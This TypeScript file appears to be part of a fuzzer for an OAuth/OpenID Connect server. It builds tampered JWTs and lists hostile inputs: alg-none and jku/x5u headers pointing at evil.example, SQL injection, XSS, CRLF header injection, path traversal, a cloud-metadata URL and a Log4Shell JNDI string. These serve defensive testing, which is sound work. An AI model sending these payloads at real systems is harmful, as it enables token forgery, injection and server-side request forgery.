import type { Random } from '../harness/random.ts'

/** Stands in secrets that the fuzzer makes up; no log line may hold it. */
export const CANARY = 'c4n4ry'

/** A header that only a header injection would make. */
export const INJECTED = 'x-injected'

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/** Changes one character of a text to another one of base64url, so an envelope's bytes differ. */
export function flip(text: string, random: Random): string {
  if (text === '') return 'x'
  // The last character may hold bits that no byte has, so it is left.
  const at = random.below(Math.max(1, text.length - 1))
  const old = text.charAt(at)
  const others = [...ALPHABET].filter((letter) => letter !== old)
  return text.slice(0, at) + random.pick(others) + text.slice(at + 1)
}

const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

const HEADERS: readonly object[] = [
  { alg: 'none' },
  { alg: 'None', typ: 'JWT' },
  { alg: 'HS256', typ: 'JWT' },
  { alg: 'RS256', kid: '../../etc/passwd' },
  { alg: 'RS256', jku: 'https://evil.example/jwks.json', kid: 'x' },
  { alg: 'ES256', jwk: { kty: 'EC', crv: 'P-256', x: 'AA', y: 'AA' } },
  { alg: 'RS256', crit: ['b64'], b64: false },
  { alg: 'PS256', x5u: 'https://evil.example/x' },
  { alg: 'RS256', kid: { $ne: 1 } },
  { alg: ['RS256'] },
  { alg: 'EdDSA', typ: 'at+jwt', cty: 'JWT' },
]

const CLAIMS: readonly object[] = [
  { sub: 'admin' },
  { exp: Number.MAX_VALUE },
  { exp: -1, nbf: 'x' },
  { aud: [1, null] },
  { iss: 'https://evil.example' },
  { iat: 'now', scope: { a: 1 } },
  JSON.parse('{"__proto__":{"admin":true},"constructor":1}'),
]

/** Changes a JWT: swaps a part with another one's, or writes a header or claims of its own. */
export function twistJwt(text: string, other: string, random: Random): string {
  const [header = '', payload = '', signature = ''] = text.split('.')
  const parts = other.split('.')
  const claims = (): object => {
    try {
      return JSON.parse(Buffer.from(payload, 'base64url').toString())
    } catch {
      return {}
    }
  }
  const changed = (): object => ({ ...claims(), ...random.pick(CLAIMS) })
  return random.pick<() => string>([
    () => `${part(random.pick(HEADERS))}.${payload}.${signature}`,
    () => `${part(random.pick(HEADERS))}.${payload}.`,
    () => `${header}.${part(changed())}.${signature}`,
    () => `${header}.${parts[1] ?? payload}.${signature}`,
    () => `${parts[0] ?? header}.${payload}.${parts[2] ?? signature}`,
    () => `${header}.${payload}.${parts[2] ?? ''}`,
    () => `${header}.${payload}`,
    () => `${header}.${payload}.${signature}.${signature}.x`,
    () => `${header}..${signature}`,
    () => flip(text, random),
  ])()
}

const TEXTS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'null',
  'undefined',
  '0',
  '-1',
  '1e400',
  '99999999999999999999',
  'NaN',
  'true',
  '[]',
  '{}',
  '{"a":{"b":[1,2,3]}}',
  '[object Object]',
  '__proto__',
  'constructor',
  "' OR 1=1 --",
  '"; DROP TABLE clients; --',
  '<script>alert(1)</script>',
  `"><img src=x onerror=alert(1)>`,
  `a\r\n${INJECTED}: 1`,
  `a\r\n\r\n<html>`,
  `a\n${INJECTED}: 1\n`,
  `%0d%0a${INJECTED}:%201`,
  `\u560d\u560a${INJECTED}: 1`,
  '../../../../etc/passwd',
  '..%2f..%2fadmin',
  '//evil.example/',
  'https://evil.example/cb',
  'https://app.example@evil.example/cb',
  'https://app.example/cb#x',
  'https://app.example/cb?code=x',
  'javascript:alert(1)',
  'data:text/html,x',
  'http://[::1]:1/',
  'http://169.254.169.254/latest/meta-data/',
  '\\\\evil.example\\x',
  '\u202egnp.exe',
  '\ud83d\ude00',
  '\ufeff',
  '\ufffd\uffff',
  'İıſK',
  'a\tb',
  'openid\u00a0offline',
  'openid  offline_access',
  'S256',
  'plain',
  'code id_token token',
  'none login consent',
  'form_post.jwt',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
]

/** A text that nobody would type. */
export function oddText(random: Random): string {
  if (random.chance(0.7)) return random.pick(TEXTS)
  return random.pick<() => string>([
    () => 'A'.repeat(random.pick([64, 256, 1_025, 4_097, 9_000])),
    () => 'a.'.repeat(random.pick([20, 500, 3_000])),
    () => 'x '.repeat(random.pick([100, 1_500])),
    () => '%'.repeat(random.below(50) + 1),
    () => '['.repeat(random.pick([50, 2_000])),
    () => random.word(random.below(40) + 1),
    () => Array.from({ length: random.below(30) }, () => String.fromCharCode(random.below(0x2ff))).join(''),
    () => `${part({ alg: 'none' })}.${part({ sub: 'x' })}.`,
  ])()
}

/** A value of JSON where another one belongs. */
export function oddValue(random: Random): unknown {
  return random.pick<() => unknown>([
    () => null,
    () => [],
    () => ({}),
    () => 0,
    () => -1,
    () => 1.5,
    () => Number.MAX_SAFE_INTEGER,
    () => true,
    () => [[[]]],
    () => [null],
    () => [oddText(random)],
    () => ({ [oddText(random)]: oddText(random) }),
    () => oddText(random),
    () => nested(random.pick([5, 60, 900])),
  ])()
}

function nested(depth: number): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value }
  return value
}
